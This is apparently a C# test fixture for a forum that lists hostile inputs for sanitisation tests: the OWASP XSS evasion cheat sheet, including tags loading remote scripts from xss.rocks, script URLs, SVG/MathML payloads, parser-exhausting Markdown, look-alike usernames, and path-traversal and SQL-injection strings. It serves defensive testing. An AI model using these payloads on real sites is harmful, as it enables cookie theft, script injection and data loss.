namespace Forum.Tests.Hostile;

/// <summary>
/// What an attacker types into a forum: the OWASP XSS filter-evasion cheat sheet, script-capable URLs in every
/// obfuscation, SVG and MathML, Markdown that is deep or costly to parse, NUL and control characters, oversize
/// bodies, look-alike usernames, hostile titles and time zones. Each case is named, so a failure says which.
/// </summary>
public static class HostileCorpus
{
    private static string Repeat(string text, int times) => string.Concat(Enumerable.Repeat(text, times));

    /// <summary>OWASP's filter-evasion list, as raw HTML a Markdown post might try to smuggle.</summary>
    private static readonly string[] OwaspEvasions =
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "\\\";alert('XSS');//",
        "</script><script>alert('XSS');</script>",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<svg/onload=alert('XSS')>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
        "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
        "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
        "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
        "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
        "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
        "<IMG SRC=\"http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
        "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<A HREF=\"http://66.102.7.147/\">XSS</A>",
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<form><button formaction=javascript:alert(1)>X</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
    ];

    /// <summary>Markdown links and images whose address could run script, in each disguise browsers forgive.</summary>
    private static readonly string[] ScriptUrls =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "javascript :alert(1)",
        "jav&#x09;ascript:alert(1)", "jav&#09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
        "javascript%3Aalert(1)", "\\u006Aavascript:alert(1)", "java\0script:alert(1)", "java\u200Bscript:alert(1)",
        "vbscript:msgbox(1)", "VBScript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:TEXT/HTML,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "livescript:alert(1)", "mocha:alert(1)",
        "<javascript:alert(1)>", "//javascript:alert(1)", "javascript://%0Aalert(1)", "jav\tascript:alert(1)",
    ];

    private static readonly string[] SvgAndMathMl =
    [
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=40 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\" /></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">CLICKME</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>",
        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">X</mi></math>",
        "<svg><style>@import 'javascript:alert(1)';</style></svg>",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ];

    /// <summary>Markdown that nests past Markdig's limits, or that its parsers take quadratic time over.</summary>
    private static readonly (string Name, string Raw)[] CostlyMarkdown =
    [
        ("60 KB of [a](", Repeat("[a](", 15_000)),
        ("240 KB of [a](", Repeat("[a](", 60_000)),
        ("32 KB of [a](", Repeat("[a](", 8_000)),
        ("20 KB of nested brackets", Repeat("[", 10_000) + Repeat("]", 10_000)),
        ("32 KB of nested brackets", Repeat("[", 16_000) + Repeat("]", 16_000)),
        ("nested links", Repeat("[a ", 5_000) + Repeat("](b)", 5_000)),
        ("[]( runs", Repeat("[](", 10_000)),
        ("[a](b( runs", Repeat("[a](b(", 5_000)),
        ("unclosed titles", Repeat("[a](b \"", 5_000)),
        ("images ![a](", Repeat("![a](", 6_000)),
        ("reference labels", Repeat("[a][", 8_000)),
        ("emphasis *a", Repeat("*a", 16_000)),
        ("emphasis _a*", Repeat("_a*", 10_000)),
        ("strikethrough ~~a", Repeat("~~a", 10_000)),
        ("bold around brackets", Repeat("**[", 8_000)),
        ("16,000 quote markers", Repeat(">", 16_000) + " deep"),
        ("quotes of lists", Repeat("> - ", 8_000)),
        ("nested ordered lists", Repeat("1. ", 10_000)),
        ("indented nested lists", string.Concat(Enumerable.Range(0, 300).Select(i => new string(' ', i * 2) + "- x\n"))),
        ("table of broken links", "|a|b|\n|-|-|\n" + Repeat("|[x](|*y|\n", 3_000)),
        ("8,000 setext headings", Repeat("a\n=\n", 8_000)),
        ("8,000 paragraphs", Repeat("a\n\n", 8_000)),
        ("4,000 empty fences", Repeat("```\n", 8_000)),
        ("task list run", Repeat("- [ ] ", 5_000)),
        ("backtick runs", string.Concat(Enumerable.Range(1, 250).Select(i => new string('`', i) + "a"))),
        ("angle brackets", Repeat("<a ", 10_000)),
        ("entity starts", Repeat("&#x", 10_000)),
        ("emoji colons", Repeat(":a", 16_000)),
        ("mention dots", Repeat("@a.b.", 6_000)),
        ("autolink www", Repeat("www.", 8_000)),
    ];

    private static readonly (string Name, string Raw)[] ControlCharacters =
    [
        ("NUL in text", "A reply with a NUL \0 in the middle of it."),
        ("NUL only", "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("NUL in a link", "[click here](https://example.org/\0javascript:alert(1))"),
        ("C0 controls", "Controls \u0001\u0002\u0003\u0004\u0005\u0006\u0007\b\u000b\u000c\u000e\u001f in a reply."),
        ("DEL and C1", "DEL \u007f and C1 \u0085\u009b[31m characters in a reply."),
        ("bidi override", "A harmless \u202Egnp.exe\u202C file name, reversed by an override."),
        ("zero-width", "Zero\u200Bwidth\u200Cjoiners\u200Dand\uFEFFmarks in a reply."),
        ("lone surrogate", "A lone surrogate \uD800 inside a reply text."),
        ("escape sequences", "\u001b[2J\u001b[31mTerminal escape sequences in a reply."),
        ("CR only line breaks", "Line one\rline two\rline three of a reply."),
    ];

    private static readonly (string Name, string Raw)[] OversizeBodies =
    [
        ("32,001 characters", new string('x', 32_001)),
        ("1 MB of text", new string('y', 1_000_000)),
        ("100,000 line breaks", new string('\n', 50_000) + "text" + new string('\n', 50_000)),
    ];

    /// <summary>Every hostile post body: name for the test report, the raw Markdown.</summary>
    public static IEnumerable<(string Name, string Raw)> Bodies()
    {
        foreach (var (html, i) in OwaspEvasions.Select((h, i) => (h, i))) yield return ($"owasp {i + 1:D2}", html);
        foreach (var (url, i) in ScriptUrls.Select((u, i) => (u, i)))
        {
            yield return ($"script link {i + 1:D2}", $"A link to [the agenda]({url}) for the meeting.");
            yield return ($"script image {i + 1:D2}", $"A picture: ![the agenda]({url})");
        }
        foreach (var (svg, i) in SvgAndMathMl.Select((s, i) => (s, i))) yield return ($"svg/mathml {i + 1:D2}", svg);
        foreach (var costly in CostlyMarkdown) yield return ("costly: " + costly.Name, costly.Raw);
        foreach (var control in ControlCharacters) yield return ("control: " + control.Name, control.Raw);
        foreach (var oversize in OversizeBodies) yield return ("oversize: " + oversize.Name, oversize.Raw);
    }

    /// <summary>Bodies short enough to be sent as forms and JSON (the rest are refused by length, see HostileInputTests).</summary>
    public static IEnumerable<(string Name, string Raw)> PostableBodies() => Bodies().Where(b => b.Raw.Length <= 64_000);

    /// <summary>Hostile titles; each either becomes a normalised one-line title or is refused with a message.</summary>
    public static readonly (string Name, string Title, bool Accepted)[] Titles =
    [
        ("script tag", "<script>alert('XSS')</script> title text", true),
        ("img onerror", "<img src=x onerror=alert(1)> in a title", true),
        ("line breaks", "A title\r\nthat tries\nto span lines", true),
        ("tabs and controls", "A\ttitle\u0001with\u0007controls inside", true),
        ("bidi override", "Invoice \u202Efdp.exe\u202C for the coop", true),
        ("only spaces", "                                  ", false),
        ("zero-width padding", "short" + new string('\u200B', 40), false),
        ("combining marks only", new string('\u0301', 40), false),
        ("spaces padding", "short         .        .", false),
        ("NBSP padding", "tiny" + new string('\u00A0', 30), false),
        ("emoji", "🎉🎉🎉 A celebration of the coop 🎉🎉🎉", true),
        ("javascript url", "javascript:alert(document.cookie)//title", true),
        ("entity encoded", "&lt;script&gt;alert(1)&lt;/script&gt; title", true),
        ("too long", new string('t', 256), false),
        ("markdown", "**bold** [link](javascript:alert(1)) title", true),
    ];

    /// <summary>Sign-up names that must be refused: reserved, stray punctuation, or looking like "amara.baobab".</summary>
    public static readonly (string Name, string Username)[] RefusedUsernames =
    [
        ("reserved admin", "admin"), ("reserved Administrator", "Administrator"), ("reserved system", "system"),
        ("reserved staff", "staff"), ("reserved moderator", "moderator"), ("reserved mod", "mod"),
        ("reserved support", "support"), ("reserved root", "root"), ("reserved ronda", "ronda"),
        ("reserved everyone", "everyone"), ("reserved null", "null"), ("reserved undefined", "undefined"),
        ("reserved anonymous", "anonymous"), ("reserved guest", "guest"), ("look-alike adm1n", "adm1n"),
        ("look-alike rnod", "rnod"), ("trailing dot", "lucia.trama."), ("leading underscore", "_x_marks"),
        ("doubled dots", "a..b"), ("dot and dash", "ana.-maria"), ("leading dash", "-dash"),
        ("rn for m", "arnara.baobab"), ("1 for l", "1ucia.trama"), ("l for i", "lucla.trama"),
        ("capital I for l", "Iucia.trama"), ("0 for o", "amara.ba0bab"), ("underscore for dot", "amara_baobab"),
        ("dash for dot", "amara-baobab"), ("vv for w", "vvanjiru.msingi"), ("cl for d", "cliego.nodosur"),
        ("Cyrillic a", "аmara.baobab"), ("Greek o", "amara.baοbab"),
        ("full-width", "ａｍａｒａ.baobab"), ("NUL", "amara\0baobab"), ("space inside", "amara baobab"),
        ("markup", "<b>amara</b>"),
    ];

    /// <summary>Time zones sent to preferences: canonical ones stored as PostgreSQL spells them, others refused.</summary>
    public static readonly (string Name, string Sent, string? Stored)[] TimeZones =
    [
        ("lower case", "europe/madrid", "Europe/Madrid"),
        ("upper case", "AMERICA/NEW_YORK", "America/New_York"),
        ("mixed case", "aSiA/tOkYo", "Asia/Tokyo"),
        ("utc lower", "utc", "UTC"),
        ("padded", "  Europe/Lisbon  ", "Europe/Lisbon"),
        ("unknown", "Mars/Olympus_Mons", null),
        ("posix rule", "EST5EDT,M3.2.0,M11.1.0", null),
        ("path traversal", "../../../../etc/passwd", null),
        ("script", "<script>alert(1)</script>", null),
        ("NUL", "Europe/Madrid\0", null),
        ("SQL", "UTC'; DROP TABLE users; --", null),
        ("empty", "", null),
        ("very long", new string('Z', 5_000), null),
        ("offset", "+05:30", null),
        ("posix folder", "posix/Europe/Madrid", null),
    ];
}
